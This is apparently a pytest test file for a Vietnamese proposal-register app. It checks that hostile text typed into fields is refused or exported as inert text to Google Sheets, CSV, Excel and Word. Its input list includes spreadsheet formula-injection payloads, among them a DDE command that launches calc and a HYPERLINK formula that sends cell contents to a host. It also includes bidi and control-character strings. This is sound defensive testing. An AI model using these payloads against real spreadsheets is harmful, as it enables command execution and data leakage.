"""Hostile text in each field of a proposal and of an act: refused with a reason, or text wherever it goes.

The way is the real one: the check, the Google home at the double, the reading, the fold, the files.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from typing import Any

import docx
import openpyxl
import pytest

from lib.core.cells import clean
from lib.core.proposals import (
    FORM_FIELDS,
    Action,
    Proposal,
    ProposalEvent,
    ProposalKind,
    ProposalRecord,
    ProposalState,
    begin_act,
    check,
    check_act,
    fold,
)
from lib.core.register import build
from lib.i18n import LANGUAGES, translate
from lib.reports.proposal_annex import proposals_to_csv, proposals_to_xlsx
from lib.reports.proposal_docx import proposals_to_docx
from lib.sheets.google import GoogleHome
from tests.browser.hostile import TEXTS
from tests.core.proposal_rows import FIRST, START, in_state
from tests.google_double import GoogleDouble, SheetHandle
from tests.reports.test_formal_docx import ISSUER
from tests.sheets.stages import google_home, running_double

BODY = "Q25-STC"
NAMES = {BODY: "Sở Tài chính"}
DAY = date(2026, 3, 2)
LONG = "ă" * 100_000
STORED = {
    **{text[:24]: text for text in TEXTS},
    "a formula with a link": '=HYPERLINK("http://127.0.0.1:1/?"&A1;"bấm")',
    "a command": "=cmd|' /C calc'!A0",
    "an apostrophe": "'=1+1",
    "a formula behind a space": " =1+1",
    "a formula in full width": "＝1＋1",
    "a number with zeros": "007",
    "a date": "1/2",
    "a truth": "TRUE",
    "an error of a sheet": "#NAME",
    "control characters": "tốt\x07\x1b[2J đẹp",
    "a NUL": "tốt\x00đẹp",
    "marks of direction": "\u202eđảo\u202c \u2067y\u2069 \u200fx",
    "lines": "Dòng một\r\ndòng hai\u2028dòng ba",
    "a tab": "một\thai",
    "letters of other scripts": "مرحبا שלום 日本 😀",
    "what spreadsheets escape": "_x0041_ ]]> &amp; {0} %s ${HOME}",
}
REFUSED = {
    "a hundred thousand characters": LONG,
    "half a character": "tốt \ud800",
    "an error of a formula": "#REF!",
    "a mark of secrecy": "Độ mật: Tối mật",
}
FREE = [c.field for c in FORM_FIELDS if c.field not in ("kind", "proposing_body", "document_date", "expected_users")]
FREE.remove("attachment")
OF_ACTS = ("reason", "document_number", "document_symbol", "private_note")
GOOD: dict[str, Any] = dict.fromkeys((c.field for c in FORM_FIELDS if c.required), "Nội dung") | {
    "kind": ProposalKind.LOCAL.value,
    "proposing_body": BODY,
}


def checked(field: str, text: str) -> Proposal | dict[str, str]:
    return check(GOOD | {field: text}, FIRST, {BODY})


@pytest.mark.parametrize("field", FREE)
@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED)
def test_a_text_that_is_refused_has_its_reason_at_its_field_in_both_languages(field, text):
    errors = checked(field, text)
    assert not isinstance(errors, Proposal)
    assert list(errors) == [field]
    assert translate("vi", errors[field]) != errors[field]


@pytest.mark.parametrize("field", ["kind", "proposing_body", "expected_users", "attachment"])
@pytest.mark.parametrize("text", [*TEXTS, *REFUSED.values()])
def test_a_field_that_takes_only_some_values_refuses_all_others_with_its_reason(field, text):
    errors = checked(field, text)
    if isinstance(errors, Proposal):  # +1 is a number of users, and a web address is what is asked for
        assert isinstance(errors.values[field], int) or field == "attachment"
    else:
        assert list(errors) == [field]


@pytest.mark.parametrize("field", OF_ACTS)
@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED)
def test_a_text_of_an_act_that_is_refused_has_its_reason_at_its_field(field, text):
    errors = act_with({field: text})
    assert isinstance(errors, dict)
    assert list(errors) == [field]


def act_with(texts: dict[str, str]) -> ProposalEvent | dict[str, str]:
    """An approval whose texts are ``texts``, where it has any."""
    records = in_state(ProposalState.SUBMITTED)
    begun = begin_act("e1", records[FIRST], Action.APPROVE, "reviewer", BODY, START)
    draft = {"document_number": "1", "document_symbol": "QĐ-UBND", "document_date": DAY, **texts}
    return check_act(draft, begun, records[FIRST], records, DAY)


# -- what is stored


@dataclass(frozen=True)
class Stored:
    """One text in every field of a proposal and of an act on it, on the sheet and read back."""

    text: str
    sheet: SheetHandle
    proposal: Proposal
    event: ProposalEvent
    record: ProposalRecord


@pytest.fixture(scope="module")
def double() -> Iterator[GoogleDouble]:
    with running_double() as running:
        yield running


@pytest.fixture(scope="module")
def home(double: GoogleDouble) -> GoogleHome:
    return google_home(double, double.add_spreadsheet("hostile", "Sổ", {"Đơn vị": [["Mã", "Tên đơn vị"]]}).id)


@pytest.fixture(scope="module", params=STORED.values(), ids=STORED)
def stored(request, double, home) -> Stored:
    text = request.param
    number = list(STORED.values()).index(text)
    proposal = check(GOOD | dict.fromkeys(FREE, text), f"DX-26-{number}", {BODY})
    event = act_with(dict.fromkeys(OF_ACTS, text))
    assert isinstance(proposal, Proposal), proposal
    assert isinstance(event, ProposalEvent), event
    event = ProposalEvent(
        **{**event.row(), "action": Action.NOTE, "event_id": f"e{number}", "proposal_id": proposal.id}
    )
    home.append("proposals", proposal.id, proposal.row(START))
    home.append("proposal_events", event.event_id, event.row())
    rows = build(home.read(), DAY).app_rows
    record = next(r for r in fold(rows["proposals"], rows["proposal_events"]) if r.id == proposal.id)
    return Stored(text, double.spreadsheet("hostile"), proposal, event, record)


def seen(text: str) -> str:
    """What people see of ``text``: without controls and marks of direction, white space as one space."""
    return clean(text)


def test_it_is_kept_as_it_was_typed(stored):
    assert {stored.proposal.values[field] for field in FREE} == {seen(stored.text)}
    assert {getattr(stored.event, field) for field in OF_ACTS} == {seen(stored.text)}


def test_it_is_text_in_the_sheet(stored):
    header, *rows = stored.sheet.rows("Đề xuất")
    row = dict(zip(header, next(row for row in rows if row[0] == stored.proposal.id), strict=False))
    for column in FORM_FIELDS:
        if column.field in FREE:
            assert row[column.header] == seen(stored.text)
    event = next(row for row in stored.sheet.rows("Xử lý đề xuất") if row[0] == stored.event.event_id)
    assert event.count(seen(stored.text)) == len(OF_ACTS)


def test_it_is_read_back_as_it_was_typed(stored):
    assert {stored.record.values[field] for field in FREE} == {seen(stored.text)}
    assert [note.text for note in stored.record.private_notes] == [seen(stored.text)]


@pytest.mark.parametrize("language", LANGUAGES)
def test_it_is_text_in_the_csv_file(stored, language):
    content = proposals_to_csv([stored.record], NAMES, language)
    header, cells = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert len(header) == len(cells)
    assert sum(cell.removeprefix("'") == seen(stored.text).removeprefix("'") for cell in cells) == len(FREE)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_it_is_text_in_the_excel_file(stored):
    book = openpyxl.load_workbook(io.BytesIO(proposals_to_xlsx([stored.record], NAMES)))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value == seen(stored.text)]
    assert len(cells) == len(FREE)
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [cell for cell in cells if cell.hyperlink]


def test_it_is_text_in_the_word_file(stored):
    document = docx.Document(io.BytesIO(proposals_to_docx([stored.record], NAMES, ISSUER, DAY)))
    cells = [row.cells[1].text for row in document.tables[-1].rows]
    assert cells.count(seen(stored.text)) == len(FREE) - 1  # the name is the heading
    assert not document.element.xpath("//w:instrText[contains(., 'HYPERLINK')]")
